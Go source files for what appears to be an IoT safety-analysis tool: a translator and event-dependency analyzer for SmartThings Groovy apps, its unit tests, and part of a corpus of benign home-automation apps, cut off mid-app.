			if b, ok := na.Value.(*groovy.BoolLit); ok {
				in.Multiple = b.V
			}
		case "required":
			if b, ok := na.Value.(*groovy.BoolLit); ok {
				in.Required = b.V
			}
		case "options":
			if l, ok := na.Value.(*groovy.ListLit); ok {
				for _, el := range l.Elems {
					if s, ok := el.(*groovy.StrLit); ok {
						in.Options = append(in.Options, s.V)
					}
				}
			}
		case "defaultValue":
			in.Default = constValue(na.Value)
		}
	}
	return in, nil
}

func constValue(e groovy.Expr) ir.Value {
	switch v := e.(type) {
	case *groovy.IntLit:
		return ir.IntV(v.V)
	case *groovy.NumLit:
		return ir.NumV(v.V)
	case *groovy.StrLit:
		return ir.StrV(v.V)
	case *groovy.BoolLit:
		return ir.BoolV(v.V)
	}
	return ir.NullV()
}

// extractWiring statically collects subscriptions and schedules: the
// registration calls reachable from installed() and updated() through
// direct method calls (the paper's static enumeration, §5).
func extractWiring(app *ir.App) {
	seen := map[string]bool{}
	var visit func(name string)
	visit = func(name string) {
		if seen[name] {
			return
		}
		seen[name] = true
		m := app.Methods[name]
		if m == nil {
			return
		}
		groovy.Walk(m.Body, func(n groovy.Node) bool {
			c, ok := n.(*groovy.CallExpr)
			if !ok {
				return true
			}
			switch c.Name {
			case "subscribe":
				if sub := parseSubscribe(app, c); sub != nil {
					app.Subscriptions = appendUniqueSub(app.Subscriptions, *sub)
				}
			case "schedule":
				if h := handlerArg(c, 1); h != "" {
					app.Schedules = appendUniqueSched(app.Schedules,
						ir.Schedule{Kind: ir.ScheduleCron, Seconds: 3600, Handler: h})
				}
			case "runIn":
				if h := handlerArg(c, 1); h != "" {
					sec := int64(60)
					if iv, ok := c.Args[0].(*groovy.IntLit); ok {
						sec = iv.V
					}
					app.Schedules = appendUniqueSched(app.Schedules,
						ir.Schedule{Kind: ir.ScheduleRunIn, Seconds: sec, Handler: h})
				}
			case "runEvery1Minute", "runEvery5Minutes", "runEvery10Minutes",
				"runEvery15Minutes", "runEvery30Minutes", "runEvery1Hour", "runEvery3Hours":
				if h := handlerArg(c, 0); h != "" {
					app.Schedules = appendUniqueSched(app.Schedules,
						ir.Schedule{Kind: ir.ScheduleCron, Seconds: 300, Handler: h})
				}
			default:
				// Follow direct helper calls: initialize(), etc.
				if c.Recv == nil {
					if _, isMethod := app.Methods[c.Name]; isMethod {
						visit(c.Name)
					}
				}
			}
			return true
		})
	}
	visit("installed")
	visit("updated")
}

func appendUniqueSub(subs []ir.Subscription, s ir.Subscription) []ir.Subscription {
	for _, x := range subs {
		if x == s {
			return subs
		}
	}
	return append(subs, s)
}

func appendUniqueSched(ss []ir.Schedule, s ir.Schedule) []ir.Schedule {
	for _, x := range ss {
		if x == s {
			return ss
		}
	}
	return append(ss, s)
}

// parseSubscribe interprets the subscribe(...) overloads:
//
//	subscribe(devInput, "attr", handler)
//	subscribe(devInput, "attr.value", handler)
//	subscribe(location, "mode", handler) / subscribe(location, handler)
//	subscribe(location, "sunrise"/"sunset", handler)
//	subscribe(app, handler) / subscribe(app, "appTouch", handler)
func parseSubscribe(app *ir.App, c *groovy.CallExpr) *ir.Subscription {
	if len(c.Args) < 2 {
		return nil
	}
	src, ok := c.Args[0].(*groovy.Ident)
	if !ok {
		return nil
	}
	sub := &ir.Subscription{Source: src.Name}

	if len(c.Args) == 2 {
		// subscribe(location, handler) / subscribe(app, handler)
		sub.Handler = exprHandlerName(c.Args[1])
		if sub.Source == "location" {
			sub.Attribute = "mode"
		} else if sub.Source == "app" {
			sub.Attribute = "touch"
		}
		if sub.Handler == "" {
			return nil
		}
		return sub
	}

	spec, ok := c.Args[1].(*groovy.StrLit)
	if !ok {
		return nil
	}
	sub.Handler = exprHandlerName(c.Args[2])
	if sub.Handler == "" {
		return nil
	}
	if i := strings.IndexByte(spec.V, '.'); i >= 0 {
		sub.Attribute, sub.Value = spec.V[:i], spec.V[i+1:]
	} else {
		sub.Attribute = spec.V
	}
	switch sub.Source {
	case "location":
		switch sub.Attribute {
		case "sunrise", "sunset", "sunriseTime", "sunsetTime":
			// environment event, modeled as a sensed input (§8)
		case "mode", "position":
			sub.Attribute = "mode"
		}
	case "app":
		sub.Attribute = "touch"
	}
	return sub
}

// exprHandlerName accepts both handler references (bare identifier) and
// handler-name strings.
func exprHandlerName(e groovy.Expr) string {
	switch h := e.(type) {
	case *groovy.Ident:
		return h.Name
	case *groovy.StrLit:
		return h.V
	}
	return ""
}
