package smartapp

import (
	"sort"
	"strings"

	"iotsan/internal/device"
	"iotsan/internal/groovy"
	"iotsan/internal/ir"
)

// EventSig identifies a class of events as attribute/value; an empty
// Value means "any" (rendered "..." in the paper's Table 2).
type EventSig struct {
	Attr  string
	Value string
}

func (e EventSig) String() string {
	v := e.Value
	if v == "" {
		v = `"..."`
	}
	return e.Attr + "/" + v
}

// Overlaps reports whether an output event signature can trigger an
// input event signature: the attributes match and either side is
// unconstrained or the values match.
func (e EventSig) Overlaps(in EventSig) bool {
	if e.Attr != in.Attr {
		return false
	}
	return e.Value == "" || in.Value == "" || e.Value == in.Value
}

// Conflicts reports whether two output signatures drive the same
// attribute to different values (§5: nodes 0 and 1 conflict on
// switch/off vs switch/on).
func (e EventSig) Conflicts(o EventSig) bool {
	return e.Attr == o.Attr && e.Value != "" && o.Value != "" && e.Value != o.Value
}

// HandlerInfo summarises one event handler for dependency analysis: the
// events that trigger or inform it and the events it can induce.
type HandlerInfo struct {
	App     *ir.App
	Handler string
	Inputs  []EventSig
	Outputs []EventSig
}

// AnalyzeHandlers enumerates input and output events for every event
// handler of the app (§5 "Extracting input/output events"):
//
//   - input events come from subscribe registrations, from APIs that read
//     device state, and from timer interrupts;
//   - output events come from APIs that change device state (actuator
//     commands, location-mode changes, synthetic sendEvent calls).
func AnalyzeHandlers(app *ir.App) []HandlerInfo {
	byHandler := map[string]*HandlerInfo{}
	get := func(name string) *HandlerInfo {
		hi := byHandler[name]
		if hi == nil {
			hi = &HandlerInfo{App: app, Handler: name}
			byHandler[name] = hi
		}
		return hi
	}

	for _, sub := range app.Subscriptions {
		hi := get(sub.Handler)
		sig := subscriptionSig(app, sub)
		hi.Inputs = appendSig(hi.Inputs, sig)
	}
	for _, sch := range app.Schedules {
		hi := get(sch.Handler)
		// Timer events are app-scoped: a timer fires a specific handler
		// of a specific app, so cross-app timer overlap is impossible.
		hi.Inputs = appendSig(hi.Inputs, timerSig(app, sch.Handler))
	}

	names := make([]string, 0, len(byHandler))
	for n := range byHandler {
		names = append(names, n)
	}
	sort.Strings(names)

	out := make([]HandlerInfo, 0, len(names))
	for _, n := range names {
		hi := byHandler[n]
		a := &bodyAnalysis{app: app, visited: map[string]bool{}}
		a.analyzeMethod(n, map[string]string{})
		for _, r := range a.reads {
			hi.Inputs = appendSig(hi.Inputs, r)
		}
		for _, w := range a.writes {
			hi.Outputs = appendSig(hi.Outputs, w)
		}
		for _, sch := range a.schedules {
			hi.Outputs = appendSig(hi.Outputs, timerSig(app, sch))
		}
		out = append(out, *hi)
	}
	return out
}

func subscriptionSig(app *ir.App, sub ir.Subscription) EventSig {
	switch sub.Source {
	case "location":
		switch sub.Attribute {
		case "sunrise", "sunset", "sunriseTime", "sunsetTime":
			return EventSig{Attr: "sun", Value: strings.TrimSuffix(sub.Attribute, "Time")}
		}
		return EventSig{Attr: "mode", Value: sub.Value}
	case "app":
		return EventSig{Attr: "app", Value: "touch"}
	}
	return EventSig{Attr: sub.Attribute, Value: sub.Value}
}

func timerSig(app *ir.App, handler string) EventSig {
	return EventSig{Attr: "time:" + app.Name + "/" + handler}
}

func appendSig(sigs []EventSig, s EventSig) []EventSig {
	for _, x := range sigs {
		if x == s {
			return sigs
		}
	}
	return append(sigs, s)
}

// bodyAnalysis walks a handler body (and the helpers it calls) to find
// device reads, device writes, and dynamic timer registrations.
type bodyAnalysis struct {
	app       *ir.App
	visited   map[string]bool
	reads     []EventSig
	writes    []EventSig
	schedules []string
}

func (a *bodyAnalysis) analyzeMethod(name string, aliases map[string]string) {
	if a.visited[name] {
		return
	}
	a.visited[name] = true
	m := a.app.Methods[name]
	if m == nil {
		return
	}
	a.analyzeBlock(m.Body, aliases)
}

func (a *bodyAnalysis) analyzeBlock(b *groovy.Block, aliases map[string]string) {
	if b == nil {
		return
	}
	for _, st := range b.Stmts {
		a.analyzeStmt(st, aliases)
	}
}

func (a *bodyAnalysis) analyzeStmt(st groovy.Stmt, aliases map[string]string) {
	switch s := st.(type) {
	case *groovy.VarDeclStmt:
		if s.Init != nil {
			a.analyzeExpr(s.Init, aliases)
			if in := a.inputOf(s.Init, aliases); in != "" {
				aliases[s.Name] = in
			}
		}
	case *groovy.AssignStmt:
		a.analyzeExpr(s.RHS, aliases)
		a.analyzeAssignTarget(s.LHS, s.RHS, aliases)
	case *groovy.ExprStmt:
		a.analyzeExpr(s.X, aliases)
	case *groovy.IfStmt:
		a.analyzeExpr(s.Cond, aliases)
		a.analyzeBlock(s.Then, aliases)
		if s.Else != nil {
			a.analyzeStmt(s.Else, aliases)
		}
	case *groovy.Block:
		a.analyzeBlock(s, aliases)
	case *groovy.WhileStmt:
		a.analyzeExpr(s.Cond, aliases)
		a.analyzeBlock(s.Body, aliases)
	case *groovy.ForInStmt:
		a.analyzeExpr(s.Iter, aliases)
		if in := a.inputOf(s.Iter, aliases); in != "" {
			aliases[s.Var] = in
		}
		a.analyzeBlock(s.Body, aliases)
	case *groovy.ForCStmt:
		if s.Init != nil {
			a.analyzeStmt(s.Init, aliases)
		}
		if s.Cond != nil {
			a.analyzeExpr(s.Cond, aliases)
		}
		if s.Post != nil {
			a.analyzeStmt(s.Post, aliases)
		}
		a.analyzeBlock(s.Body, aliases)
	case *groovy.ReturnStmt:
		if s.X != nil {
			a.analyzeExpr(s.X, aliases)
		}
	case *groovy.SwitchStmt:
		a.analyzeExpr(s.Subject, aliases)
		for _, c := range s.Cases {
			for _, b := range c.Body {
				a.analyzeStmt(b, aliases)
			}
		}
		for _, b := range s.Default {
			a.analyzeStmt(b, aliases)
		}
	case *groovy.TryStmt:
		a.analyzeBlock(s.Body, aliases)
		for _, c := range s.Catches {
			a.analyzeBlock(c.Body, aliases)
		}
		if s.Finally != nil {
			a.analyzeBlock(s.Finally, aliases)
		}
	}
}

// analyzeAssignTarget handles `location.mode = x` and `state.* = x`.
func (a *bodyAnalysis) analyzeAssignTarget(lhs groovy.Expr, rhs groovy.Expr, aliases map[string]string) {
	p, ok := lhs.(*groovy.PropertyExpr)
	if !ok {
		return
	}
	if r, ok := p.Recv.(*groovy.Ident); ok && r.Name == "location" && p.Name == "mode" {
		a.writes = append(a.writes, EventSig{Attr: "mode", Value: constString(rhs)})
	}
}

func (a *bodyAnalysis) analyzeExpr(e groovy.Expr, aliases map[string]string) {
	switch x := e.(type) {
	case nil:
		return
	case *groovy.PropertyExpr:
		a.analyzePropRead(x, aliases)
		a.analyzeExpr(x.Recv, aliases)
	case *groovy.CallExpr:
		a.analyzeCall(x, aliases)
	case *groovy.BinaryExpr:
		a.analyzeExpr(x.L, aliases)
		a.analyzeExpr(x.R, aliases)
	case *groovy.UnaryExpr:
		a.analyzeExpr(x.X, aliases)
	case *groovy.TernaryExpr:
		a.analyzeExpr(x.Cond, aliases)
		a.analyzeExpr(x.Then, aliases)
		a.analyzeExpr(x.Else, aliases)
	case *groovy.ElvisExpr:
		a.analyzeExpr(x.X, aliases)
		a.analyzeExpr(x.Y, aliases)
	case *groovy.ListLit:
		for _, el := range x.Elems {
			a.analyzeExpr(el, aliases)
		}
	case *groovy.MapLit:
		for _, en := range x.Entries {
			a.analyzeExpr(en.Value, aliases)
		}
	case *groovy.GStringLit:
		for _, ge := range x.Exprs {
			a.analyzeExpr(ge, aliases)
		}
	case *groovy.IndexExpr:
		a.analyzeExpr(x.Recv, aliases)
		a.analyzeExpr(x.Index, aliases)
	case *groovy.CastExpr:
		a.analyzeExpr(x.X, aliases)
	case *groovy.ClosureExpr:
		a.analyzeBlock(x.Body, aliases)
	}
}

// analyzePropRead records `dev.currentAttr` and `location.mode` reads.
func (a *bodyAnalysis) analyzePropRead(p *groovy.PropertyExpr, aliases map[string]string) {
	if r, ok := p.Recv.(*groovy.Ident); ok && r.Name == "location" {
		if p.Name == "mode" || p.Name == "currentMode" {
			a.reads = append(a.reads, EventSig{Attr: "mode"})
		}
		return
	}
	in := a.inputOf(p.Recv, aliases)
	if in == "" {
		return
	}
	if attr, ok := currentAttrName(p.Name); ok {
		if a.inputHasAttr(in, attr) {
			a.reads = append(a.reads, EventSig{Attr: attr})
		}
	}
}

// currentAttrName maps `currentSwitch` → "switch", `temperatureState` →
// "temperature".
func currentAttrName(prop string) (string, bool) {
	if strings.HasPrefix(prop, "current") && len(prop) > len("current") {
		rest := prop[len("current"):]
		return strings.ToLower(rest[:1]) + rest[1:], true
	}
	if strings.HasSuffix(prop, "State") && len(prop) > len("State") {
		return prop[:len(prop)-len("State")], true
	}
	return "", false
}

func (a *bodyAnalysis) analyzeCall(c *groovy.CallExpr, aliases map[string]string) {
	// Recurse into arguments first.
	for _, arg := range c.Args {
		a.analyzeExpr(arg, aliases)
	}
	for _, na := range c.NamedArgs {
		a.analyzeExpr(na.Value, aliases)
	}

	// Timer registrations induce app-scoped timer output events.
	switch c.Name {
	case "runIn", "schedule":
		if h := handlerArg(c, 1); h != "" {
			a.schedules = append(a.schedules, h)
		}
		return
	case "runEvery1Minute", "runEvery5Minutes", "runEvery10Minutes",
		"runEvery15Minutes", "runEvery30Minutes", "runEvery1Hour", "runEvery3Hours":
		if h := handlerArg(c, 0); h != "" {
			a.schedules = append(a.schedules, h)
		}
		return
	case "setLocationMode":
		a.writes = append(a.writes, EventSig{Attr: "mode", Value: constStringArg(c, 0)})
		return
	case "sendEvent":
		// Synthetic events: sendEvent(name: "smoke", value: "detected").
		var name, value string
		for _, na := range c.NamedArgs {
			if s, ok := na.Value.(*groovy.StrLit); ok {
				switch na.Key {
				case "name":
					name = s.V
				case "value":
					value = s.V
				}
			}
		}
		if name != "" {
			a.writes = append(a.writes, EventSig{Attr: name, Value: value})
		}
		return
	case "currentValue", "latestValue", "currentState", "latestState":
		if in := a.inputOf(c.Recv, aliases); in != "" {
			if attr := constStringArg(c, 0); attr != "" && a.inputHasAttr(in, attr) {
				a.reads = append(a.reads, EventSig{Attr: attr})
			}
		}
		return
	case "setMode":
		if r, ok := c.Recv.(*groovy.Ident); ok && r.Name == "location" {
			a.writes = append(a.writes, EventSig{Attr: "mode", Value: constStringArg(c, 0)})
			return
		}
	}

	// Device commands: recv resolves to a device input and the command
	// exists on that input's capability.
	if c.Recv != nil {
		if in := a.inputOf(c.Recv, aliases); in != "" {
			if sig, ok := a.commandSig(in, c.Name); ok {
				a.writes = append(a.writes, sig)
			}
		}
		a.analyzeExpr(c.Recv, aliases)
	} else if m := a.app.Methods[c.Name]; m != nil {
		// Helper method call: analyze transitively, binding device
		// arguments to parameters.
		sub := map[string]string{}
		for i, p := range m.Params {
			if i < len(c.Args) {
				if in := a.inputOf(c.Args[i], aliases); in != "" {
					sub[p.Name] = in
				}
			}
		}
		a.analyzeMethod(c.Name, sub)
	}
	if c.Closure != nil {
		cl := aliases
		// Bind closure parameter (or implicit `it`) to the receiver when
		// iterating a device collection: switches.each { it.on() }.
		if in := a.inputOf(c.Recv, aliases); in != "" {
			cl = copyAliases(aliases)
			if c.Closure.Implicit {
				cl["it"] = in
			} else if len(c.Closure.Params) > 0 {
				cl[c.Closure.Params[0].Name] = in
			}
		}
		a.analyzeBlock(c.Closure.Body, cl)
	}
}

func copyAliases(in map[string]string) map[string]string {
	out := make(map[string]string, len(in))
	for k, v := range in {
		out[k] = v
	}
	return out
}

// inputOf resolves an expression to a device-input name when possible:
// a direct input reference, an alias, an index into an input collection,
// or evt.device (resolved to any subscribed device input).
func (a *bodyAnalysis) inputOf(e groovy.Expr, aliases map[string]string) string {
	switch x := e.(type) {
	case *groovy.Ident:
		if in := a.app.Input(x.Name); in != nil && in.Kind == ir.InputDevice {
			return x.Name
		}
		if al, ok := aliases[x.Name]; ok {
			return al
		}
	case *groovy.IndexExpr:
		return a.inputOf(x.Recv, aliases)
	case *groovy.PropertyExpr:
		if r, ok := x.Recv.(*groovy.Ident); ok && r.Name == "evt" && x.Name == "device" {
			for _, sub := range a.app.Subscriptions {
				if a.app.Input(sub.Source) != nil {
					return sub.Source
				}
			}
		}
		// settings.inputName
		if r, ok := x.Recv.(*groovy.Ident); ok && r.Name == "settings" {
			if in := a.app.Input(x.Name); in != nil && in.Kind == ir.InputDevice {
				return x.Name
			}
		}
	case *groovy.CallExpr:
		if x.Name == "first" || x.Name == "find" || x.Name == "findAll" || x.Name == "collect" {
			return a.inputOf(x.Recv, aliases)
		}
	case *groovy.TernaryExpr:
		if in := a.inputOf(x.Then, aliases); in != "" {
			return in
		}
		return a.inputOf(x.Else, aliases)
	case *groovy.ElvisExpr:
		if in := a.inputOf(x.X, aliases); in != "" {
			return in
		}
		return a.inputOf(x.Y, aliases)
	}
	return ""
}

// commandSig maps a command invocation on a device input to the output
// event it induces.
func (a *bodyAnalysis) commandSig(inputName, command string) (EventSig, bool) {
	in := a.app.Input(inputName)
	if in == nil || in.Kind != ir.InputDevice {
		return EventSig{}, false
	}
	cap := device.CapabilityByName(in.Capability)
	if cap == nil {
		return EventSig{}, false
	}
	if cmd := cap.Command(command); cmd != nil {
		return EventSig{Attr: cmd.Attribute, Value: cmd.Value}, true
	}
	// Commands from sibling capabilities of the device the input is
	// likely bound to (e.g. a capability.switch input controlling a
	// dimmer's setLevel): search the full registry.
	for _, cn := range device.Capabilities() {
		if cmd := device.CapabilityByName(cn).Command(command); cmd != nil {
			return EventSig{Attr: cmd.Attribute, Value: cmd.Value}, true
		}
	}
	return EventSig{}, false
}

// inputHasAttr reports whether reading attr from the input's capability
// is meaningful (the capability or a sibling on the same device exposes
// it). Attribute reads outside the capability still count: the paper's
// Table 2 lists illuminance reads as inputs for Brighten Dark Places.
func (a *bodyAnalysis) inputHasAttr(inputName, attr string) bool {
	in := a.app.Input(inputName)
	if in == nil || in.Kind != ir.InputDevice {
		return false
	}
	cap := device.CapabilityByName(in.Capability)
	if cap != nil && cap.Attribute(attr) != nil {
		return true
	}
	for _, cn := range device.Capabilities() {
		if device.CapabilityByName(cn).Attribute(attr) != nil {
			return true
		}
	}
	return false
}

func handlerArg(c *groovy.CallExpr, i int) string {
	if i >= len(c.Args) {
		return ""
	}
	return exprHandlerName(c.Args[i])
}

func constString(e groovy.Expr) string {
	if s, ok := e.(*groovy.StrLit); ok {
		return s.V
	}
	return ""
}

func constStringArg(c *groovy.CallExpr, i int) string {
	if i >= len(c.Args) {
		return ""
	}
	return constString(c.Args[i])
}
