package smartapp

import (
	"testing"

	"iotsan/internal/corpus"
	"iotsan/internal/ir"
)

func mustTranslate(t *testing.T, name string) *ir.App {
	t.Helper()
	app, err := Translate(corpus.MustSource(name))
	if err != nil {
		t.Fatalf("Translate(%s): %v", name, err)
	}
	return app
}

func TestTranslateVirtualThermostat(t *testing.T) {
	app := mustTranslate(t, "Virtual Thermostat")
	if app.Name != "Virtual Thermostat" {
		t.Errorf("name = %q", app.Name)
	}
	// Figure 1: seven inputs.
	if len(app.Inputs) != 7 {
		t.Fatalf("inputs = %d, want 7", len(app.Inputs))
	}
	sensor := app.Input("sensor")
	if sensor == nil || sensor.Kind != ir.InputDevice || sensor.Capability != "temperatureMeasurement" {
		t.Errorf("sensor input: %+v", sensor)
	}
	outlets := app.Input("outlets")
	if outlets == nil || !outlets.Multiple || outlets.Capability != "switch" {
		t.Errorf("outlets input: %+v", outlets)
	}
	motion := app.Input("motion")
	if motion == nil || motion.Required {
		t.Errorf("motion should be optional: %+v", motion)
	}
	mode := app.Input("mode")
	if mode == nil || mode.Kind != ir.InputEnum || len(mode.Options) != 2 {
		t.Errorf("mode input: %+v", mode)
	}
	// Subscriptions: temperature and motion.
	if len(app.Subscriptions) != 2 {
		t.Fatalf("subscriptions = %d, want 2: %+v", len(app.Subscriptions), app.Subscriptions)
	}
}

func TestTranslateSubscriptionsViaInitialize(t *testing.T) {
	// Auto Mode Change subscribes inside initialize(), called from
	// installed()/updated(); the extraction must follow the call.
	app := mustTranslate(t, "Auto Mode Change")
	if len(app.Subscriptions) != 1 {
		t.Fatalf("subscriptions = %d, want 1: %+v", len(app.Subscriptions), app.Subscriptions)
	}
	sub := app.Subscriptions[0]
	if sub.Source != "people" || sub.Attribute != "presence" || sub.Handler != "presenceHandler" {
		t.Errorf("subscription: %+v", sub)
	}
}

func TestTranslateAppAndModeSubscriptions(t *testing.T) {
	app := mustTranslate(t, "Unlock Door")
	if len(app.Subscriptions) != 2 {
		t.Fatalf("subscriptions: %+v", app.Subscriptions)
	}
	var hasTouch, hasMode bool
	for _, s := range app.Subscriptions {
		if s.Source == "app" && s.Attribute == "touch" && s.Handler == "appTouch" {
			hasTouch = true
		}
		if s.Source == "location" && s.Attribute == "mode" && s.Handler == "changedLocationMode" {
			hasMode = true
		}
	}
	if !hasTouch || !hasMode {
		t.Errorf("touch=%v mode=%v: %+v", hasTouch, hasMode, app.Subscriptions)
	}
}

func TestTranslateRunInSchedule(t *testing.T) {
	app := mustTranslate(t, "Light Follows Me")
	// runIn is called from the motion handler, not installed(); the
	// static wiring keeps only install-time registrations, but the
	// handler analysis must see the timer output event.
	infos := AnalyzeHandlers(app)
	var motion *HandlerInfo
	for i := range infos {
		if infos[i].Handler == "motionHandler" {
			motion = &infos[i]
		}
	}
	if motion == nil {
		t.Fatal("no motionHandler info")
	}
	foundTimer := false
	for _, o := range motion.Outputs {
		if o.Attr == "time:Light Follows Me/scheduleCheck" {
			foundTimer = true
		}
	}
	if !foundTimer {
		t.Errorf("motionHandler outputs = %v, want timer event", motion.Outputs)
	}
}

// TestTable2Signatures verifies the input/output event extraction against
// the paper's Table 2 for all five example apps.
func TestTable2Signatures(t *testing.T) {
	sigs := func(name, handler string) (in, out []EventSig) {
		app := mustTranslate(t, name)
		for _, hi := range AnalyzeHandlers(app) {
			if hi.Handler == handler {
				return hi.Inputs, hi.Outputs
			}
		}
		t.Fatalf("%s: no handler %q", name, handler)
		return nil, nil
	}
	has := func(sigs []EventSig, attr, value string) bool {
		for _, s := range sigs {
			if s.Attr == attr && s.Value == value {
				return true
			}
		}
		return false
	}

	// Vertex 0: Brighten Dark Places / contactOpenHandler.
	in, out := sigs("Brighten Dark Places", "contactOpenHandler")
	if !has(in, "contact", "open") || !has(in, "illuminance", "") {
		t.Errorf("vertex 0 inputs = %v", in)
	}
	if !has(out, "switch", "on") || has(out, "switch", "off") {
		t.Errorf("vertex 0 outputs = %v", out)
	}

	// Vertex 1: Let There Be Dark! / contactHandler.
	in, out = sigs("Let There Be Dark!", "contactHandler")
	if !has(in, "contact", "") {
		t.Errorf("vertex 1 inputs = %v", in)
	}
	if !has(out, "switch", "on") || !has(out, "switch", "off") {
		t.Errorf("vertex 1 outputs = %v", out)
	}

	// Vertex 2: Auto Mode Change / presenceHandler.
	in, out = sigs("Auto Mode Change", "presenceHandler")
	if !has(in, "presence", "") {
		t.Errorf("vertex 2 inputs = %v", in)
	}
	if !has(out, "mode", "") {
		t.Errorf("vertex 2 outputs = %v", out)
	}

	// Vertices 3 and 4: Unlock Door.
	in, out = sigs("Unlock Door", "appTouch")
	if !has(in, "app", "touch") || !has(out, "lock", "unlocked") {
		t.Errorf("vertex 3: in=%v out=%v", in, out)
	}
	in, out = sigs("Unlock Door", "changedLocationMode")
	if !has(in, "mode", "") || !has(out, "lock", "unlocked") {
		t.Errorf("vertex 4: in=%v out=%v", in, out)
	}

	// Vertices 5 and 6: Big Turn On.
	in, out = sigs("Big Turn On", "appTouch")
	if !has(in, "app", "touch") || !has(out, "switch", "on") {
		t.Errorf("vertex 5: in=%v out=%v", in, out)
	}
	in, out = sigs("Big Turn On", "changedLocationMode")
	if !has(in, "mode", "") || !has(out, "switch", "on") {
		t.Errorf("vertex 6: in=%v out=%v", in, out)
	}
}

func TestAnalyzeEachClosureCommands(t *testing.T) {
	app, err := Translate(`
definition(name: "Each Test", namespace: "t", author: "t", description: "t", category: "t")
preferences {
    section("s") { input "switches", "capability.switch", multiple: true }
    section("m") { input "motion1", "capability.motionSensor" }
}
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    switches.each { it.off() }
}
`)
	if err != nil {
		t.Fatal(err)
	}
	infos := AnalyzeHandlers(app)
	if len(infos) != 1 {
		t.Fatalf("infos: %+v", infos)
	}
	found := false
	for _, o := range infos[0].Outputs {
		if o.Attr == "switch" && o.Value == "off" {
			found = true
		}
	}
	if !found {
		t.Errorf("outputs = %v, want switch/off via each-closure", infos[0].Outputs)
	}
}

func TestAnalyzeHelperMethodCommands(t *testing.T) {
	// Smart Security triggers its alarm through a helper method.
	app := mustTranslate(t, "Smart Security")
	infos := AnalyzeHandlers(app)
	for _, hi := range infos {
		found := false
		for _, o := range hi.Outputs {
			if o.Attr == "alarm" && o.Value == "both" {
				found = true
			}
		}
		if !found {
			t.Errorf("%s outputs = %v, want alarm/both via triggerAlarm()", hi.Handler, hi.Outputs)
		}
	}
}

func TestTranslateErrors(t *testing.T) {
	if _, err := Translate(`preferences { section("x") { input "a", "capability.switch" } }`); err == nil {
		t.Error("missing definition should fail")
	}
	if _, err := Translate(`
definition(name: "X", namespace: "t", author: "t", description: "t", category: "t")
preferences { section("x") { input "a", "capability.nosuchcap" } }
`); err == nil {
		t.Error("unknown capability should fail")
	}
}

func TestInferredTypes(t *testing.T) {
	app := mustTranslate(t, "Virtual Thermostat")
	// The evaluate() helper's parameters must be inferred numeric from
	// its call sites (anchor: evt.numericValue and the decimal input).
	sawNumeric := false
	for n, typ := range app.Types {
		_ = n
		if typ.Kind == ir.KindNum {
			sawNumeric = true
		}
	}
	if !sawNumeric {
		t.Error("no numeric types inferred in Virtual Thermostat")
	}
}
