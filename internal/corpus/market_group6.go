package corpus

// Group 6: appliances, garden, buttons, and miscellany. 25 apps.

func g6(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Group: 6, Tags: append([]Tag{TagMarket}, tags...), Groovy: groovy})
}

func init() {
	g6("Smart Sprinkler", `
definition(name: "Smart Sprinkler", namespace: "iotsan.corpus", author: "Community",
    description: "Water the lawn when soil is dry; stop when moist.", category: "Green Living")
preferences {
    section("Soil sensor") { input "soil", "capability.soilMoistureMeasurement" }
    section("Sprinkler switch") { input "sprinkler", "capability.switch" }
    section("Dry below") { input "dry", "number", title: "Percent" }
    section("Wet above") { input "wet", "number", title: "Percent" }
}
def installed() { subscribe(soil, "soilMoisture", soilHandler) }
def updated() { unsubscribe(); subscribe(soil, "soilMoisture", soilHandler) }
def soilHandler(evt) {
    def m = evt.numericValue
    if (m < dry) {
        sprinkler.on()
    } else if (m > wet) {
        sprinkler.off()
    }
}
`, TagGood)

	g6("Rainy Day Skip", `
definition(name: "Rainy Day Skip", namespace: "iotsan.corpus", author: "Community",
    description: "Stop the sprinkler when the rain sensor gets wet.", category: "Green Living")
preferences {
    section("Rain sensor") { input "rain", "capability.waterSensor" }
    section("Sprinkler") { input "sprinkler", "capability.switch" }
}
def installed() { subscribe(rain, "water.wet", rainHandler) }
def updated() { unsubscribe(); subscribe(rain, "water.wet", rainHandler) }
def rainHandler(evt) {
    sprinkler.off()
}
`)

	g6("Button Scene Setter", `
definition(name: "Button Scene Setter", namespace: "iotsan.corpus", author: "Community",
    description: "Push for movie scene, hold for full brightness.", category: "Convenience")
preferences {
    section("Button") { input "button1", "capability.button" }
    section("Dimmers") { input "dimmers", "capability.switchLevel", multiple: true }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(button1, "button", buttonHandler) }
def buttonHandler(evt) {
    if (evt.value == "pushed") {
        dimmers.each { it.setLevel(20) }
    } else if (evt.value == "held") {
        dimmers.each { it.setLevel(100) }
    }
}
`)

	g6("Double Tap Big Off", `
definition(name: "Double Tap Big Off", namespace: "iotsan.corpus", author: "Community",
    description: "A second button push within the window turns everything off.", category: "Convenience")
preferences {
    section("Button") { input "button1", "capability.button" }
    section("Everything") { input "switches", "capability.switch", multiple: true }
}
def installed() { subscribe(button1, "button.pushed", tapHandler) }
def updated() { unsubscribe(); subscribe(button1, "button.pushed", tapHandler) }
def tapHandler(evt) {
    def taps = state.taps ?: 0
    taps = taps + 1
    state.taps = taps
    if (taps >= 2) {
        switches.off()
        state.taps = 0
    } else {
        runIn(10, resetTaps)
    }
}
def resetTaps() {
    state.taps = 0
}
`)

	g6("Energy Budget Tracker", `
definition(name: "Energy Budget Tracker", namespace: "iotsan.corpus", author: "Community",
    description: "Track daily energy and warn over budget.", category: "Green Living")
preferences {
    section("Meter") { input "meter", "capability.energyMeter" }
    section("Budget (kWh)") { input "budget", "number", title: "kWh" }
}
def installed() { subscribe(meter, "energy", energyHandler) }
def updated() { unsubscribe(); subscribe(meter, "energy", energyHandler) }
def energyHandler(evt) {
    if (evt.numericValue > budget && state.warned != true) {
        state.warned = true
        sendPush("Energy budget exceeded: ${evt.value} kWh")
    }
}
`)

	g6("Shade Sun Tracker", `
definition(name: "Shade Sun Tracker", namespace: "iotsan.corpus", author: "Community",
    description: "Close shades on bright hot afternoons; open when mild.", category: "Green Living")
preferences {
    section("Outdoor lux") { input "lux", "capability.illuminanceMeasurement" }
    section("Indoor temp") { input "temp", "capability.temperatureMeasurement" }
    section("Shades") { input "shades", "capability.windowShade", multiple: true }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(lux, "illuminance", evaluateShades)
    subscribe(temp, "temperature", evaluateShades)
}
def evaluateShades(evt) {
    def bright = lux.currentIlluminance > 400
    def hot = temp.currentTemperature > 78
    if (bright && hot) {
